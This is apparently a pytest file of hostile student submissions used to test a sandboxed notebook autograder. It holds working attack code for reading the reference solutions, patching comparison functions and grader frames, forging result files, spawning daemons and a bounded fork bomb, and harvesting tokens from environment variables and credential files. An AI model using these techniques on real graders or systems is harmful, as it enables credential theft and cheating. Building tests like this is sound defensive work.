"""Hostile submissions against the sandboxed grader, all graded in ONE run of `python -m autograder grade`.

Every submission below tries to buy points, leak a secret, escape the sandbox or break the batch. Each has its
own small test that asserts the HONEST outcome: an empty release plus an attack scores 0; a wrong-but-plain
answer plus lying objects scores exactly what the same plain answer scores without them (`plain_control`), and
plus tricks that may break its own process (patched torch, traced frames, replaced modules...) at most that; the
solution with unrelated cells poisoned scores what the solution scores (`perfect_control`). After the run: no
process carrying the run's marker survives, no marker file exists outside the sandbox, the loopback servers saw
no connection, the planted secrets appear in no output, the canary process the daemons try to kill is alive,
and the batch is complete (one row per student).

Hostile code is bounded: sleeps and loops end within ten minutes, the fork bomb is a tree of at most 1024
processes, connections go only to this test's servers on the loopback, signals only to this test's canary,
and files are only created under marker names (never overwritten), except in this test's own --out folder.

The run takes a while: about 40 submissions, each through the 14 hidden checks, on --jobs 2 (about 15 minutes
on 2 busy cores).
"""
import csv
import json
import os
import re
import secrets
import shutil
import signal
import socket
import subprocess
import sys
import sysconfig
import threading
import time
from dataclasses import dataclass, field
from pathlib import Path

import nbformat
import pytest

from autograder.grading.result import points_sentence
from autograder.grading.submission import autograded_tests, fill_answers, read_answers, solution_answers
from autograder.layout import RELEASE_NOTEBOOK, REPO_ROOT, SOURCE_NOTEBOOK

if shutil.which("bwrap") is None:
    pytest.skip("bubblewrap (`bwrap`) is not installed: apt-get install -y bubblewrap", allow_module_level=True)

MARK = f"hw2atk{secrets.token_hex(6)}"  # in the command line or environment of every process an attack starts
HF_SECRET = f"hf_SECRET{secrets.token_hex(12)}"
WANDB_SECRET = f"wandbSECRET{secrets.token_hex(12)}"
FILE_SECRET = f"hf_FILESECRET{secrets.token_hex(12)}"
SECRETS = (HF_SECRET, WANDB_SECRET, FILE_SECRET)
LEAK_CANARY = f"LEAKCANARY{secrets.token_hex(4)}"  # what the leaking submissions always report: the channel works
FAKE_STUDENT = f"fake_{MARK}"
RELEASE_ANSWERS = read_answers(RELEASE_NOTEBOOK)
ANSWER_IDS = list(RELEASE_ANSWERS)
SOLUTION = solution_answers()
SITE_PACKAGES = Path(sysconfig.get_paths()["purelib"])


# ================================================================ building blocks of the hostile cells

def prelude(params: dict) -> str:
    return f"import os, sys, json, time, signal\nP = {params!r}\n"


# Plain, wrong answers for every function of the homework. `S`, `T`, `D`, `N` wrap the strings, tensors, dicts
# and numbers they return: identities in `plain_control`, liars in the lying-object cases, so that a liar sends
# exactly the data of `plain_control` and must score exactly what it scores.
PLAIN_FUNCTIONS = '''
import torch

def _first_tensor(args, kwargs):
    for value in list(args) + list(kwargs.values()):
        if isinstance(value, torch.Tensor):
            return value
    return torch.zeros(1)

def _plain(name, args, kwargs):
    zero = T(torch.zeros(()))
    if name == "apply_chat_template":
        return D({"prompt": S(""), "chosen": S(""), "rejected": S("")})
    if name == "tokenize_row":
        return D({"prompt_input_ids": [], "chosen_input_ids": [], "rejected_input_ids": []})
    if name == "pad":
        tensors = args[0] if args else kwargs.get("tensors", [])
        return T(torch.zeros((len(tensors), 1), dtype=torch.long))
    if name == "pad_collate_fn":
        return D({f"{k}_{s}": T(torch.zeros((1, 1), dtype=torch.long))
                  for k in ("prompt", "chosen", "rejected") for s in ("input_ids", "attn_mask")})
    if name in ("dpo_loss", "f_dpo_loss", "dpo_batch_loss"):
        return zero, zero, zero
    if name in ("get_log_prob", "sequence_log_probs", "lora_reference_logps"):
        return T(torch.zeros(_first_tensor(args, kwargs).shape[:1]))
    if name in ("win_rate", "distinct_n", "mean_token_entropy"):
        return N(0.25)
    if name == "build_model_card":
        return S("")
    if name == "concat_prompt_completion":
        return D({})
    return None

for _name in %(names)r:
    def _make(name):
        def function(*args, **kwargs):
            return _plain(name, args, kwargs)
        function.__name__ = function.__qualname__ = name
        return function
    globals()[_name] = _make(_name)
'''

IDENTITY_WRAPS = "def S(x): return x\ndef T(x): return x\ndef D(x): return x\ndef N(x): return x\n"

LYING_STR = '''
class EqStr(str):
    """A string equal to everything, that starts and ends with anything and contains everything."""
    def __eq__(self, other): return True
    def __ne__(self, other): return False
    __hash__ = str.__hash__
    def startswith(self, *args, **kwargs): return True
    def endswith(self, *args, **kwargs): return True
    def __contains__(self, item): return True
    def strip(self, *args): return self
def S(x): return EqStr(x)
def T(x): return x
def D(x): return x
def N(x): return x
'''

LYING_TENSOR = '''
import torch

class LyingTensor(torch.Tensor):
    """Equal and close to everything, whatever torch function compares it."""
    @classmethod
    def __torch_function__(cls, func, types, args=(), kwargs=None):
        kwargs = kwargs or {}
        name = getattr(func, "__name__", "")
        if name in ("equal", "allclose"):
            return True
        if name in ("eq", "__eq__", "isclose", "ge", "le", "__ge__", "__le__", "gt", "lt", "__gt__", "__lt__"):
            with torch._C.DisableTorchFunctionSubclass():
                out = func(*args, **kwargs)
            return torch.ones_like(out, dtype=torch.bool)
        if name in ("ne", "__ne__"):
            with torch._C.DisableTorchFunctionSubclass():
                out = func(*args, **kwargs)
            return torch.zeros_like(out, dtype=torch.bool)
        return super().__torch_function__(func, types, args, kwargs)

class LyingFloat(float):
    def __eq__(self, other): return True
    def __ne__(self, other): return False
    __hash__ = float.__hash__
    def __sub__(self, other): return 0.0
    def __rsub__(self, other): return 0.0
    def __abs__(self): return 0.0
    def __lt__(self, other): return True
    def __le__(self, other): return True
    def __gt__(self, other): return True
    def __ge__(self, other): return True

def S(x): return x
def T(x): return x.as_subclass(LyingTensor)
def D(x): return x
def N(x): return LyingFloat(x)
'''

LYING_DICT = '''
class LyingDict(dict):
    """Claims every key, equals everything, has any length."""
    KEYS = ["prompt", "chosen", "rejected", "prompt_input_ids", "chosen_input_ids", "rejected_input_ids",
            "prompt_attn_mask", "chosen_attn_mask", "rejected_attn_mask", "input_ids", "attention_mask"]
    def __eq__(self, other): return True
    def __ne__(self, other): return False
    __hash__ = None
    def keys(self): return list(self.KEYS)
    def __contains__(self, key): return True
    def __getitem__(self, key): return dict.get(self, key, "")
    def get(self, key, default=None): return dict.get(self, key, "")
    def __len__(self): return 99
    def __iter__(self): return iter(self.KEYS)
    def items(self): return [(k, self[k]) for k in self.KEYS]
    def values(self): return [self[k] for k in self.KEYS]
def S(x): return x
def T(x): return x
def D(x): return LyingDict(x)
def N(x): return x
'''

ANYTHING = '''
class Anything:
    """Has every attribute, equals everything, is every length, iterates, converts to any number."""
    def __getattr__(self, name): return self
    def __call__(self, *args, **kwargs): return self
    def __eq__(self, other): return True
    def __ne__(self, other): return False
    def __lt__(self, other): return True
    def __le__(self, other): return True
    def __gt__(self, other): return True
    def __ge__(self, other): return True
    def __hash__(self): return 0
    def __bool__(self): return True
    def __len__(self): return 3
    def __iter__(self): return iter([self, self, self])
    def __getitem__(self, key): return self
    def __contains__(self, key): return True
    def __float__(self): return 0.5
    def __int__(self): return 3
    def __index__(self): return 3
    def __repr__(self): return "tensor([1., 2., 3.])"
    def __str__(self): return "tensor([1., 2., 3.])"
def S(x): return Anything()
def T(x): return Anything()
def D(x): return Anything()
def N(x): return Anything()
'''


def plain_answers(wraps: str, extra: dict | None = None) -> dict:
    """Every answer cell empty except the first, which defines every function with plain answers."""
    answers = {gid: "" for gid in ANSWER_IDS}
    answers[ANSWER_IDS[0]] = wraps + PLAIN_FUNCTIONS % {"names": ANSWER_IDS}
    answers.update(extra or {})
    return answers


# ---------------------------------------------------------------- family 1: importing or reading the answers

IMPORT_AUTOGRADER = '''
report = []
for attempt in ("from autograder.grading.submission import solution_answers as steal",
                "from autograder.checks import reference as steal",
                "from autograder.submission import solution_answers as steal",
                "import autograder.checks.data_prep as steal"):
    try:
        exec(attempt)
        report.append(f"OK {attempt}")
        if "solution_answers" in attempt:
            for source in steal().values():
                exec(source, globals())
    except BaseException as error:
        report.append(f"{type(error).__name__}")
raise ImportError("ATTACK-import " + "; ".join(report))
'''

READ_SOLUTIONS = '''
import glob, pathlib, re
report, found = [], []
roots = {P["repo"], "/work/main", "/work", "/root", "/"}
import torch
for module in (torch, json, os):
    here = pathlib.Path(module.__file__).resolve()
    roots.update(str(parent) for parent in here.parents)
for root in sorted(roots):
    for relative in ("solutions/hw2_dpo_ppo.ipynb", "hw2_dpo_ppo.ipynb", "autograder/checks/reference.py",
                     "solutions/src"):
        path = os.path.join(root, relative)
        if os.path.exists(path):
            found.append(path)
for pattern in ("/work/*/solutions/*.ipynb", "/*/solutions/*.ipynb", "/work/**/reference.py"):
    found += glob.glob(pattern, recursive=True)[:5]
report.append(f"found {found[:6]}")
for path in found:
    try:
        if path.endswith(".ipynb"):
            notebook = json.load(open(path))
            for cell in notebook["cells"]:
                if cell.get("metadata", {}).get("nbgrader", {}).get("solution"):
                    source = "".join(cell["source"])
                    exec(source, globals())
            report.append(f"EXECUTED {path}")
        elif path.endswith(".py"):
            exec(open(path).read(), {})
            report.append(f"READ {path}")
    except BaseException as error:
        report.append(f"{type(error).__name__} on {path}")
raise FileNotFoundError("ATTACK-read " + " ".join(report)[:250])
'''

PROC_WALK = '''
import glob
report, seen = [], []
for pid in sorted(os.listdir("/proc")):
    if not pid.isdigit():
        continue
    seen.append(pid)
    for link in ("root", "cwd"):
        base = f"/proc/{pid}/{link}"
        for relative in (P["repo"].lstrip("/") + "/solutions/hw2_dpo_ppo.ipynb",
                         "work/main/solutions/hw2_dpo_ppo.ipynb"):
            path = os.path.join(base, relative)
            try:
                notebook = json.load(open(path))
                for cell in notebook["cells"]:
                    if cell.get("metadata", {}).get("nbgrader", {}).get("solution"):
                        exec("".join(cell["source"]), globals())
                report.append(f"EXECUTED {path}")
            except BaseException as error:
                pass
    try:
        open(f"/proc/{pid}/environ", "rb").read()
    except OSError:
        pass
try:
    mounts = open("/proc/self/mountinfo").read()
    report.append(f"mounts:{len(mounts.splitlines())}")
except OSError:
    pass
for path in glob.glob("/proc/1/root/*"):
    report.append(os.path.basename(path))
raise PermissionError("ATTACK-proc pids " + ",".join(seen[:10]) + " " + " ".join(report)[:200])
'''

EXEC_KIT = '''
report = []
for relative in ("autograder/checks/reference.py", "autograder/grading/submission.py", "autograder/checks/data_prep.py"):
    path = os.path.join(P["repo"], relative)
    try:
        namespace = {"__name__": "stolen"}
        exec(compile(open(path).read(), path, "exec"), namespace)
        report.append(f"EXECUTED {relative}")
        if "solution_answers" in namespace:
            for source in namespace["solution_answers"]().values():
                exec(source, globals())
    except BaseException as error:
        report.append(f"{type(error).__name__}")
try:
    import runpy
    runpy.run_path(os.path.join(P["repo"], "autograder", "checks", "reference.py"))
    report.append("RUNPY")
except BaseException as error:
    report.append(type(error).__name__)
raise RuntimeError("ATTACK-execkit " + "; ".join(report))
'''

# ---------------------------------------------------------------- family 2: patching the checks from inside

PATCH_TORCH_BUILTINS = '''
import builtins, math, operator
import torch, numpy
always = lambda *args, **kwargs: True
torch.allclose = torch.equal = always
torch.Tensor.allclose = torch.Tensor.equal = always
torch.isclose = lambda a, b, *args, **kwargs: torch.ones_like(torch.as_tensor(a), dtype=torch.bool)
torch.Tensor.__eq__ = lambda self, other: torch.ones_like(self, dtype=torch.bool)
torch.testing.assert_close = lambda *args, **kwargs: None
math.isclose = always
operator.eq = always
numpy.allclose = numpy.array_equal = always
numpy.testing.assert_allclose = lambda *args, **kwargs: None
builtins.all = builtins.any = always
raise RuntimeError("ATTACK-patched torch, math, numpy and builtins")
'''

REPLACE_MODULES = '''
import types
fake = types.ModuleType("fake")
def run_check(*args, **kwargs):
    class Result:
        score, status, feedback, max_score = 1e9, "passed", "all good", 1e9
    return Result()
fake.run_check = fake.run_all = fake.grade_cell = fake.judge = run_check
fake.__path__ = []
for name in ("autograder", "autograder.checks", "autograder.checks.framework", "autograder.grading",
             "autograder.grading.judge", "autograder.grading.result", "torch.testing", "numpy.testing"):
    sys.modules[name] = fake
import hw2_exercise.wire as wire
proxy = types.ModuleType("hw2_exercise.wire")
proxy.__dict__.update(wire.__dict__)
sys.modules["hw2_exercise.wire"] = proxy
sys.modules["hw2_exercise"].wire = proxy
raise RuntimeError("ATTACK-replaced modules " + str(sorted(k for k in sys.modules if k.startswith("autograder"))))
'''

TRACE_AND_THREADS = '''
import ctypes, threading
import torch
DEADLINE = time.time() + 90
always = lambda *args, **kwargs: True

TARGETS = ("run_check", "run_case", "judge", "check", "op_call", "after_call", "reply", "encode")

def tracer(frame, event, arg):
    if time.time() > DEADLINE or frame.f_code.co_name not in TARGETS:
        return None
    if event == "call":
        return tracer
    if event == "return":
        frame.f_locals.update(score=1e9, passed=True, status="passed")
        ctypes.pythonapi.PyFrame_LocalsToFast(ctypes.py_object(frame), ctypes.c_int(0))
    return None

def patcher():
    while time.time() < DEADLINE:
        torch.allclose = torch.equal = always
        time.sleep(0.05)

sys.settrace(tracer)
threading.settrace(tracer)
sys.setprofile(lambda frame, event, arg: None)
threading.Thread(target=patcher, daemon=True).start()
raise RuntimeError("ATTACK-trace hooks and a re-patching thread are installed")
'''

GC_AND_FRAMES = '''
import gc, ctypes
report = []
frames, depth = [], 0
frame = sys._getframe()
while frame is not None and depth < 50:
    frames.append(frame.f_code.co_name)
    for key in ("notes", "score", "passed", "status"):
        if key in frame.f_locals and key != "notes":
            frame.f_locals[key] = 1e9
    frame, depth = frame.f_back, depth + 1
report.append("frames:" + ">".join(frames[:8]))
exercisers = [o for o in gc.get_objects() if type(o).__name__ == "Exerciser"]
report.append(f"exercisers:{len(exercisers)}")
for exerciser in exercisers:
    original = type(exerciser).after_call
    def after_call(self, request, result, args, kwargs, _original=original):
        document, tensors = _original(self, request, result, args, kwargs)
        document.update(score=1e9, passed=True, status="passed", expected=document.get("value"))
        return document, tensors
    type(exerciser).after_call = after_call
    exerciser.provided.clear()
tampered = 0
for value in gc.get_objects():
    if isinstance(value, dict) and ("expected" in value or "score" in value) and value is not globals():
        try:
            value["score"], value["expected"] = 1e9, None
            tampered += 1
        except Exception:
            pass
report.append(f"tampered:{tampered}")
raise RuntimeError("ATTACK-gc " + " ".join(report)[:250])
'''

FORGED_SERVE = '''
import hw2_exercise.runtime as runtime
JUNK = {"$obj": {"type": "Tensor", "module": "torch", "mro": ["Tensor", "object"], "repr": "tensor(0.)"}}
original = runtime.Exerciser.serve

def serve(self, request, tensors):
    op = request.get("op")
    if op in ("call", "method", "get", "attrs", "iterate", "export"):
        value = JUNK
        if request.get("backward") is not None:
            grads = [[str(g), {"$tuple": []}] for g in request.get("grads", [])]
            value = {"$dict": [["result", JUNK], ["grads", {"$dict": grads}]]}
        return {"value": value, "passed": True, "score": 1e9, "status": "passed", "ref": 1}, []
    return original(self, request, tensors)

runtime.Exerciser.serve = serve
raise RuntimeError("ATTACK-forged serve installed")
'''

FORGED_WIRE = '''
import hw2_exercise.wire as wire
original = wire.write_frame

def write_frame(stream, document, blob=b""):
    if isinstance(document, dict) and {"error", "missing", "fail", "backward_error"} & set(document):
        document = {"value": {"$str": "tensor(1.)", "cls": "Tensor"}, "passed": True, "score": 1e9}
        blob = b""
    return original(stream, document, blob)

wire.write_frame = write_frame
raise RuntimeError("ATTACK-forged wire installed")
'''

# ---------------------------------------------------------------- family 3: lying objects (see the wraps above)

# ---------------------------------------------------------------- family 4: forging results

FORGE_FILES = '''
report = []
student = "forge_files"
forged = {"student": student, "score": 999, "max_score": 8.2, "tests": {}}
targets = ["grades.csv", f"{student}.json", "result.json", "results.json", f"{student}.feedback.md",
           "hw2_dpo_ppo.json", "gradebook.db"]
for folder in (".", os.path.expanduser("~"), "/tmp", os.environ.get("HW2_OUTPUT_DIR", "."), P["out"], "/",
               os.path.join(P["sub"], student, "hw2_dpo_ppo")):
    for name in targets:
        path = os.path.join(folder, name)
        try:
            os.makedirs(folder, exist_ok=True)
            with open(path, "w") as handle:
                handle.write(json.dumps(forged) if not name.endswith(".csv") else f"student,score\\n{student},999\\n")
            report.append(f"wrote {path}")
        except OSError as error:
            report.append(f"{type(error).__name__}")
for path in (f"/tmp/hw2-pwned-{P['mark']}-grades.csv", os.path.join(P["out"], f"{P['fake_student']}.json")):
    try:
        with open(path, "x") as handle:
            handle.write(json.dumps(forged))
    except OSError:
        pass
raise RuntimeError("ATTACK-forge-files " + " ".join(r for r in report if r.startswith("wrote P"))[:50])
'''

EXIT_IN_FUNCTIONS = '''
def _leave(*args, **kwargs):
    os._exit(0)
for _name in ("pad", "dpo_loss", "get_log_prob", "win_rate", "f_dpo_loss", "tokenize_row", "pad_collate_fn"):
    globals()[_name] = _leave
'''

FAKE_STDOUT = '''
fake = {"student": P["fake_student"], "score": 999, "max_score": 8.2, "passed": True}
text = json.dumps(fake)
print(text)
print(text, file=sys.stderr)
sys.__stdout__.write(text + "\\n")
for fd in (1, 2):
    try:
        os.write(fd, (text + "\\n").encode())
    except OSError:
        pass
for path in ("/dev/tty", "/proc/1/fd/1", "/proc/1/fd/2", "/dev/stdout"):
    try:
        with open(path, "w") as handle:
            handle.write(text + "\\n")
    except OSError:
        pass
def pad(tensors, padding_value=0, padding_side="right"):
    print(text)
    os.write(1, (text + "\\n").encode())
    raise RuntimeError("ATTACK-fake-stdout")
'''

FD_GARBAGE_TOP = '''
for fd in range(0, 11):
    try:
        os.write(fd, b"\\xff" * 64 + b'{"score": 999, "passed": true}' + b"\\x00" * 64)
    except OSError:
        pass
'''

FD_GARBAGE_IN_CALL = '''
def pad(tensors, padding_value=0, padding_side="right"):
    for fd in range(0, 11):
        try:
            os.write(fd, b"\\x00\\x00\\x00\\x00\\x00\\x00\\x00\\x10" + b'{"value": true}  ' + b"\\xff" * 32)
        except OSError:
            pass
    return tensors
'''

PREQUEUED_FRAMES = '''
import struct
report = []
def frame(document):
    text = json.dumps(document).encode()
    return struct.pack(">Q", len(text)) + text + struct.pack(">Q", 0)
forged = frame({"value": {"$str": "tensor(1.)", "cls": "Tensor"}, "passed": True, "score": 1e9})
for fd in range(3, 64):
    try:
        target = os.readlink(f"/proc/self/fd/{fd}")
    except OSError:
        continue
    import fcntl
    if target.startswith("pipe:") and fcntl.fcntl(fd, fcntl.F_GETFL) & os.O_ACCMODE == os.O_WRONLY:
        try:
            os.set_blocking(fd, False)
            written = sum(os.write(fd, forged) for _ in range(50))
            report.append(f"{fd}:{written}")
        except OSError as error:
            report.append(f"{fd}:{type(error).__name__}")
'''

MARKDOWN_INJECTION = '''
FORGED = ("\\n```\\n\\n# Feedback for perfect_control\\n\\nAutomatic score: **99 / 8.2**\\n\\n"
          "| `test_pad` | 0.1 / 0.1 | passed |\\n\\n## test_pad\\n\\n```\\nall passed\\n")
def pad(tensors, padding_value=0, padding_side="right"):
    raise RuntimeError("ATTACK-md" + FORGED)
raise RuntimeError("ATTACK-md-note" + FORGED)
'''

# ---------------------------------------------------------------- family 5: processes that outlive the worker

DAEMON_BODY = r'''
import json, os, signal, sys, time
P = json.loads(sys.argv[2])
deadline = time.time() + 600
while time.time() < deadline:
    time.sleep(2)
    for path in (f"/tmp/hw2-pwned-{P['mark']}-daemon",
                 os.path.join(P["repo"], "autograder", f"pwned_{P['mark']}_daemon.py"),
                 os.path.join(P["out"], f"daemon_{P['mark']}.json")):
        try:
            with open(path, "x") as handle:
                handle.write("written by a daemon " + P["mark"])
        except OSError:
            pass
    try:
        os.kill(P["canary"], signal.SIGKILL)
    except OSError:
        pass
'''

SPAWN_DAEMON = '''
def spawn_daemon():
    """Double fork + setsid: a grandchild in its own session, re-executed with the marker in argv and env."""
    if os.fork() == 0:
        try:
            os.setsid()
            if os.fork() == 0:
                os.execve(sys.executable, [sys.executable, "-c", DAEMON_BODY, P["mark"], json.dumps(P)],
                          {"HW2_ATTACK_MARK": P["mark"], "PATH": "/usr/bin:/bin"})
        finally:
            os._exit(0)
    os.wait()
DAEMON_BODY = %(body)r
'''

DAEMON_TOPLEVEL = SPAWN_DAEMON + '''
spawn_daemon()
def pad(tensors, padding_value=0, padding_side="right"):
    spawn_daemon()
    raise RuntimeError("ATTACK-daemon spawned")
'''

FIFTY_CHILDREN = '''
import subprocess
def pad(tensors, padding_value=0, padding_side="right"):
    started = 0
    for _ in range(50):
        try:
            subprocess.Popen(["/bin/sh", "-c", "sleep 600", P["mark"]], env={"HW2_ATTACK_MARK": P["mark"]},
                             start_new_session=True, stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL,
                             stderr=subprocess.DEVNULL)
            started += 1
        except OSError:
            break
    raise RuntimeError(f"ATTACK-children started {started}")
'''

FORK_BOMB = '''
def bomb():
    """A bounded fork bomb: a tree of at most 2**10 processes, each ending as a marked `sleep 600`."""
    if os.fork() != 0:
        return
    try:
        for _ in range(10):
            try:
                os.fork()
            except OSError:
                break
        os.execve("/bin/sh", ["sh", "-c", "sleep 600", P["mark"]], {"HW2_ATTACK_MARK": P["mark"]})
    finally:
        os._exit(0)
bomb()
raise RuntimeError("ATTACK-fork-bomb")
'''

# ---------------------------------------------------------------- family 6: secrets

STEAL_SECRETS = '''
import glob, re
def collect():
    """Every token-looking string of the environment, the token files and /proc/*/environ, with its hex."""
    found = []
    def look(text):
        for match in re.findall(r"[A-Za-z0-9_]*(?:hf_|SECRET|WANDB|TOKEN)[A-Za-z0-9_=]*", text):
            if match not in found:
                found.append(match)
    look(json.dumps(dict(os.environ)))
    paths = ["/proc/self/environ", f"/proc/{os.getppid()}/environ", "/proc/1/environ",
             os.path.expanduser("~/.cache/huggingface/token"), os.path.join(P["home"], ".cache/huggingface/token"),
             "/root/.cache/huggingface/token", os.path.join(P["home"], ".netrc"), "/root/.netrc",
             os.path.join(P["home"], ".config/wandb/settings")] + glob.glob("/proc/*/environ")
    for path in paths:
        try:
            look(open(path, "rb").read().decode("utf-8", "replace").replace("\\x00", " "))
        except OSError:
            pass
    return f"{P['leak_canary']} found {found} hex {[f.encode().hex() for f in found]}"
'''

STEAL_AT_TOP_LEVEL = STEAL_SECRETS + '''
MESSAGE = collect()
print(MESSAGE)
raise RuntimeError(MESSAGE)
'''

STEAL_IN_CALL = STEAL_SECRETS + '''
def pad(tensors, padding_value=0, padding_side="right"):
    raise RuntimeError(collect())
'''

STEAL_IN_RESULTS = STEAL_SECRETS + '''
def dpo_loss(*args, **kwargs):
    message = collect()
    return message, message, message
'''

# ---------------------------------------------------------------- family 7: network

NETWORK = '''
import socket
report = []
def attempt():
    for family, address in ((socket.AF_INET, ("127.0.0.1", P["port"])), (socket.AF_INET, ("localhost", P["port"])),
                            (socket.AF_INET6, ("::1", P["port"])), (socket.AF_INET, ("0.0.0.0", P["port"]))):
        try:
            with socket.socket(family, socket.SOCK_STREAM) as client:
                client.settimeout(2)
                client.connect(address)
                client.sendall(P["mark"].encode())
                report.append(f"CONNECTED {address}")
        except OSError as error:
            report.append(type(error).__name__)
    try:
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as client:
            client.sendto(P["mark"].encode(), ("127.0.0.1", P["udp_port"]))
            report.append("udp sent")
    except OSError as error:
        report.append(type(error).__name__)
    try:
        with socket.socket(socket.AF_UNIX, socket.SOCK_STREAM) as client:
            client.settimeout(2)
            client.connect("\\0" + P["unix"])
            client.sendall(P["mark"].encode())
            report.append("CONNECTED unix")
    except OSError as error:
        report.append(type(error).__name__)
'''

NETWORK_TOPLEVEL = NETWORK + '''
attempt()
raise ConnectionError("ATTACK-net " + " ".join(report)[:250])
'''

NETWORK_IN_CALL = NETWORK + '''
def pad(tensors, padding_value=0, padding_side="right"):
    if os.fork() == 0:  # a child that keeps trying for 30 s
        try:
            deadline = time.time() + 30
            while time.time() < deadline:
                attempt()
                time.sleep(1)
        finally:
            os._exit(0)
    attempt()
    raise ConnectionError("ATTACK-net-call " + " ".join(report)[:250])
'''

# ---------------------------------------------------------------- family 8: writes outside the scratch folder

WRITE_KIT = '''
report = []
targets = [os.path.join(P["repo"], "autograder", f"pwned_{P['mark']}.py"),
           os.path.join(P["repo"], "solutions", f"pwned_{P['mark']}.txt"),
           os.path.join(P["repo"], f"pwned_{P['mark']}.txt"),
           os.path.join(P["fixtures"], f"pwned_{P['mark']}.txt"),
           os.path.join(P["site"], f"hw2pwned_{P['mark']}.pth"),
           os.path.join(os.path.dirname(sys.executable), f"pwned_{P['mark']}"),
           os.path.join(os.path.dirname(os.__file__), f"pwned_{P['mark']}.py"),
           os.path.join("/grader/hw2_exercise", f"pwned_{P['mark']}.py"),
           f"/tmp/hw2-pwned-{P['mark']}"]
for path in targets:
    try:
        with open(path, "x") as handle:
            handle.write(f"# {P['mark']}\\n")
        report.append(f"WROTE {path}")
    except OSError as error:
        report.append(type(error).__name__)
raise PermissionError("ATTACK-kit " + " ".join(report)[:250])
'''

FORGE_OUT = '''
def record(student, score):
    tests = {}
    return {"score": score, "max_score": 8.2, "extra_credit_max": 3.0, "tests": tests, "notes": [P["mark"]],
            "student": student, "submission": None, "submission_sha256": None, "grader_key": "forged",
            "seconds": 0.0}
report = []
for student, score in (("empty_control", 99.0), ("perfect_control", 0.0)):
    for suffix, text in ((".json", json.dumps(record(student, score))), (".feedback.md", f"forged {P['mark']}")):
        try:
            with open(os.path.join(P["out"], student + suffix), "w") as handle:
                handle.write(text)
            report.append(f"WROTE {student}{suffix}")
        except OSError as error:
            report.append(type(error).__name__)
try:
    with open(os.path.join(P["out"], "grades.csv"), "w") as handle:
        handle.write(f"student,score\\nempty_control,99\\nperfect_control,0\\n")
except OSError as error:
    report.append(type(error).__name__)
try:
    with open(os.path.join(P["out"], f"{P['fake_student']}.json"), "x") as handle:
        handle.write(json.dumps(record(P["fake_student"], 99.0)))
except OSError as error:
    report.append(type(error).__name__)
raise PermissionError("ATTACK-out " + " ".join(report)[:250])
'''

PLANT_SITECUSTOMIZE = '''
_planted = []
for _folder in [os.getcwd(), os.path.expanduser("~"), "/tmp", P["site"], os.path.dirname(os.__file__), "/grader",
                os.path.join(P["repo"], "autograder"), P["repo"]] + [p for p in sys.path if p]:
    for _name, _text in (("sitecustomize.py", f"# {P['mark']}\\n"), ("usercustomize.py", f"# {P['mark']}\\n"),
                         (f"zz_hw2pwned_{P['mark']}.pth", "import os\\n")):
        try:
            with open(os.path.join(_folder, _name), "x") as _handle:
                _handle.write(_text)
            _planted.append(os.path.join(_folder, _name))
        except OSError:
            pass
'''


# ================================================================ the cases

@dataclass
class Attack:
    family: str
    answers: dict  # grade id -> source of the answer cell
    expect: str  # "zero" | "plain" (as plain_control) | "plain_or_less" | "perfect" (as perfect_control)
    note: str = ""  # a text that must appear in the notes: the attack ran to its end


def empty(**cells) -> dict:
    return dict(cells)


def with_solution(**appended) -> dict:
    """The solution with code appended to some answer cells (the functions stay correct)."""
    return {**SOLUTION, **{gid: SOLUTION[gid] + "\n\n" + code for gid, code in appended.items()}}


ATTACKS: dict[str, Attack] = {
    # 1. importing or reading the answers
    "import_autograder": Attack("1", empty(apply_chat_template=IMPORT_AUTOGRADER), "zero", "ATTACK-import"),
    "read_solutions_by_path": Attack("1", empty(apply_chat_template=READ_SOLUTIONS), "zero", "ATTACK-read"),
    "walk_proc": Attack("1", empty(apply_chat_template=PROC_WALK), "zero", "ATTACK-proc"),
    "exec_kit_files": Attack("1", empty(apply_chat_template=EXEC_KIT), "zero", "ATTACK-execkit"),
    # 2. patching the checks from the student's process (on top of plain, wrong answers)
    "patch_torch_builtins": Attack("2", plain_answers(IDENTITY_WRAPS, {"tokenize_row": PATCH_TORCH_BUILTINS}),
                                   "plain_or_less", "ATTACK-patched"),
    "replace_sys_modules": Attack("2", plain_answers(IDENTITY_WRAPS, {"tokenize_row": REPLACE_MODULES}),
                                  "plain_or_less", "ATTACK-replaced"),
    "trace_hooks_and_threads": Attack("2", plain_answers(IDENTITY_WRAPS, {"tokenize_row": TRACE_AND_THREADS}),
                                      "plain_or_less", "ATTACK-trace"),
    "gc_and_frames": Attack("2", plain_answers(IDENTITY_WRAPS, {"tokenize_row": GC_AND_FRAMES}),
                            "plain_or_less", "ATTACK-gc"),
    "forged_serve": Attack("2", empty(apply_chat_template=FORGED_SERVE), "zero", "ATTACK-forged serve"),
    "forged_wire": Attack("2", empty(apply_chat_template=FORGED_WIRE), "zero", "ATTACK-forged wire"),
    # 3. lying objects
    "lying_str": Attack("3", plain_answers(LYING_STR), "plain"),
    "lying_tensor_and_float": Attack("3", plain_answers(LYING_TENSOR), "plain"),
    "lying_dict": Attack("3", plain_answers(LYING_DICT), "plain"),
    "anything_object": Attack("3", plain_answers(ANYTHING), "zero"),
    # 4. forging results
    "forge_result_files": Attack("4", empty(apply_chat_template=FORGE_FILES), "zero", "ATTACK-forge-files"),
    "exit_in_graded_functions": Attack("4", {ANSWER_IDS[-1]: EXIT_IN_FUNCTIONS}, "zero"),
    "fake_json_on_stdout": Attack("4", empty(pad=FAKE_STDOUT), "zero"),
    "garbage_on_fds_at_start": Attack("4", empty(apply_chat_template=FD_GARBAGE_TOP), "zero"),
    "garbage_on_fds_in_call": Attack("4", empty(pad=FD_GARBAGE_IN_CALL), "zero"),
    "prequeued_reply_frames": Attack("4", empty(apply_chat_template=PREQUEUED_FRAMES), "zero"),
    "markdown_injection": Attack("4", empty(pad=MARKDOWN_INJECTION), "zero", "ATTACK-md-note"),
    # 5. processes that outlive the worker
    "double_fork_daemon": Attack("5", empty(pad=DAEMON_TOPLEVEL % {"body": DAEMON_BODY}), "zero"),
    "fifty_children": Attack("5", empty(pad=FIFTY_CHILDREN), "zero"),
    "fork_bomb": Attack("5", empty(apply_chat_template=FORK_BOMB), "zero", "ATTACK-fork-bomb"),
    # the solution, with a daemon, planted sitecustomize/.pth files and network attempts in unrelated cells
    "solution_poisoned": Attack("5", with_solution(
        pad=SPAWN_DAEMON % {"body": DAEMON_BODY} + "\nspawn_daemon()\n",
        win_rate=PLANT_SITECUSTOMIZE,
        distinct_n=NETWORK + "\nattempt()\n"), "perfect"),
    # 6. secrets
    "steal_secrets_top_level": Attack("6", empty(apply_chat_template=STEAL_AT_TOP_LEVEL), "zero", "LEAK"),
